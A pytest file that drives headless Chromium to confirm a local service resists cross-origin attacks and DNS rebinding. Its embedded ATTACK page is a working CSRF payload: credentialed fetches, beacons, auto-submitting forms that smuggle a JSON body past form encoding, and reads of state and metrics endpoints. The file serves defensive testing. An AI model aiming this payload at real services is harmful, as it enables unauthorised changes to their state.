"""Pages in a real Chromium against a service: another origin, a form, a name that is mapped to loopback.

Skipped where no Chromium is installed (Debian: apt-get install chromium); `test_origins.py` checks the same
by plain HTTP.
"""

import json
import os
import queue
import shutil
import signal
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from tests.support.serving import TOKEN, http, listening

BROWSER = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
pytestmark = pytest.mark.skipif(BROWSER is None, reason="Chromium is not installed")
REBOUND = "evil.example"
"""A name that Chromium maps to 127.0.0.1."""
PATIENCE_S = 90

ATTACK = """<!doctype html><body><iframe name="sink"></iframe><iframe src="TARGET/?token=TOKEN"></iframe>
<script>
const target = "TARGET", seen = {}, now = Date.now() + "000000";
const bodies = {
  "/v1/decide": "", "/v1/renew": "", "/v1/mode": '{"mode": "active"}', "/v1/rollback": "{}",
  "/v1/observations": `[{"kind": "domain", "epoch_ns": ${now}, "domain": "d0", "gpus": 0}]`,
  "/v1/jobs": '[{"kind": "submit", "id": "from-a-web-page", "gpus": 1, "estimate_s": 8000}]',
};
const tried = async (name, call) => {
  try { seen[name] = await call(); } catch (error) { seen[name] = "failed"; }
};
const json = { "Content-Type": "application/json" };
const form = (path, type) => {
  const one = document.createElement("form"), field = document.createElement("input");
  Object.assign(one, { method: "POST", action: target + path, target: "sink", enctype: type });
  Object.assign(field, { name: '{"mode": "active", "reason": "', value: '"}' });
  one.append(field);
  document.body.append(one);
  one.submit();
};
(async () => {
  await new Promise((wake) => setTimeout(wake, 1500)); // the second frame has taken the token over
  for (const [path, body] of Object.entries(bodies)) {
    const sent = { method: "POST", credentials: "include", ...(body ? { body } : {}) };
    const ask = (more) => async () => (await fetch(target + path, { ...sent, ...more })).type;
    await tried(`no-cors ${path}`, ask({ mode: "no-cors" }));
    await tried(`cors ${path}`, ask({}));
    await tried(`json ${path}`, ask({ headers: json }));
    navigator.sendBeacon(target + path, new Blob([body], { type: "text/plain" }));
  }
  for (const path of ["/v1/state", "/v1/jobs", "/metrics", "/health", "/openapi.json"]) {
    await tried(`read ${path}`, async () => (await fetch(target + path, { credentials: "include" })).text());
  }
  for (const type of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
    ["/v1/mode", "/v1/decide", "/v1/renew"].forEach((path) => form(path, type));
    await new Promise((wake) => setTimeout(wake, 300));
  }
  await fetch("/seen", { method: "POST", body: JSON.stringify(seen) });
})();
</script>"""


@pytest.fixture(scope="module")
def service(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    with listening(tmp_path_factory.mktemp("browsers")) as address:
        yield address


@contextmanager
def page(text: str) -> Iterator[tuple[int, "queue.Queue[str]"]]:
    """The port of a server whose only page is `text`, and what the page posts to it."""
    posted: queue.Queue[str] = queue.Queue()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(text.encode())

        def do_POST(self) -> None:
            posted.put(self.rfile.read(int(self.headers["Content-Length"])).decode())
            self.send_response(204)
            self.end_headers()

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True).start()
    yield server.server_address[1], posted
    server.shutdown()
    server.server_close()


@contextmanager
def browsing(folder: Path, *words: str) -> Iterator["subprocess.Popen[str]"]:
    """A Chromium without a window, which ends with the body."""
    assert BROWSER is not None
    command = [
        BROWSER,
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        f"--user-data-dir={folder / 'profile'}",
    ]
    command += [f"--host-resolver-rules=MAP {REBOUND} 127.0.0.1", *words]
    process = subprocess.Popen(
        command, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True, start_new_session=True
    )
    try:
        yield process
    finally:
        with suppress(ProcessLookupError):
            os.killpg(process.pid, signal.SIGKILL)
        process.communicate()


def drawn(folder: Path, address: str) -> str:
    """The document at an address after some seconds, as Chromium has it."""
    with browsing(folder, "--virtual-time-budget=8000", "--dump-dom", address) as process:
        return process.communicate(timeout=PATIENCE_S)[0]


def told(service: str) -> dict[str, Any]:
    """What orders and telemetry would have changed."""
    with http(service) as client:
        decisions = client.get("/v1/history?what=decisions").json()["rows"]
        state, metrics = client.get("/v1/state").json(), client.get("/metrics").text
        counted = [
            line for line in metrics.splitlines() if line.startswith(("twin_orders", "twin_observations"))
        ]
        return {
            "run": state["run"], "mode": state["mode"], "gpus": [one["alive"] for one in state["domains"]],
            "jobs": client.get("/v1/jobs").json()["jobs"], "counted": counted,
            "asked": sum("pull" in str(row["reasons"]) for row in decisions),
        }  # fmt: skip


@pytest.mark.parametrize("name", ["127.0.0.1", "localhost", REBOUND])
def test_a_page_of_another_origin_changes_and_reads_nothing(service: str, tmp_path: Path, name: str) -> None:
    before = told(service)
    target = service.replace("127.0.0.1", name) if name == REBOUND else service
    with (
        page(ATTACK.replace("TARGET", target).replace("TOKEN", TOKEN)) as (port, posted),
        browsing(tmp_path, "--remote-debugging-port=0", f"http://{name}:{port}/"),
    ):
        seen = json.loads(posted.get(timeout=PATIENCE_S))
    assert len(seen) == 3 * 6 + 5
    for what, got in seen.items():
        assert got == ("opaque" if what.startswith("no-cors") else "failed"), (what, got)
    assert told(service) == before


def test_under_a_name_mapped_to_loopback_there_is_nothing(service: str, tmp_path: Path) -> None:
    port = urlsplit(service).port
    for path in ("/", "/v1/state", f"/?token={TOKEN}"):
        text = drawn(tmp_path, f"http://{REBOUND}:{port}{path}")
        assert "ForeignHost" in text and "domains" not in text


def test_the_console_takes_the_token_of_the_printed_address(service: str, tmp_path: Path) -> None:
    text = drawn(tmp_path, f"{service}/?token={TOKEN}")
    assert ">owner<" in text and TOKEN not in text
    text = drawn(tmp_path / "other", f"{service}/")
    assert ">anonymous<" in text
